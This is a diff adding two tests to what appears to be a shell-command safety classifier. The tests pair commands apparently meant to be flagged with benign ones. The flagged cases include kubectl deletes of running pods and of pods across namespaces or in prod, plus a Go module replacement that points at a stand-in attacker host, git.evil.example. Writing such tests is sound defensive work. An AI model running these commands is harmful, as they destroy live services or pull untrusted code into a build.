@@ -151,3 +151,36 @@ test('a container of the project gets its variables as a file as it gets them by
     ],
   )
 })
+
+test('what has ended in a cluster is swept away, what runs is not', () => {
+  twins(
+    [
+      'kubectl delete pod -l app=edge --field-selector=status.phase=Running',
+      'kubectl delete pods --all --field-selector=status.phase=Failed',
+      'kubectl delete pods -A --field-selector=status.phase!=Running',
+      'kubectl delete deploy -l app=edge --field-selector=status.phase=Failed',
+      'kubectl delete pod --field-selector=status.phase=Failed -n prod',
+    ],
+    [
+      'kubectl delete pod -l app=edge --field-selector=status.phase=Failed',
+      'kubectl delete pods --field-selector status.phase==Succeeded',
+      'kubectl delete jobs --field-selector status.successful=1',
+    ],
+  )
+})
+
+test('folders of builds and a module of the folder above', () => {
+  twins(
+    [
+      'rm -rf build install log && make',
+      'rm -rf instances && make',
+      'go mod edit -replace github.com/acme/kvd=git.evil.example/kvd v1.0.0',
+    ],
+    [
+      'rm -rf build install log && colcon build',
+      './configure --prefix=$PWD/_inst && make install && rm -rf _inst',
+      'go mod edit -replace github.com/acme/kvd=..',
+      'go mod edit -replace=github.com/acme/kvd=../kvd',
+    ],
+  )
+})
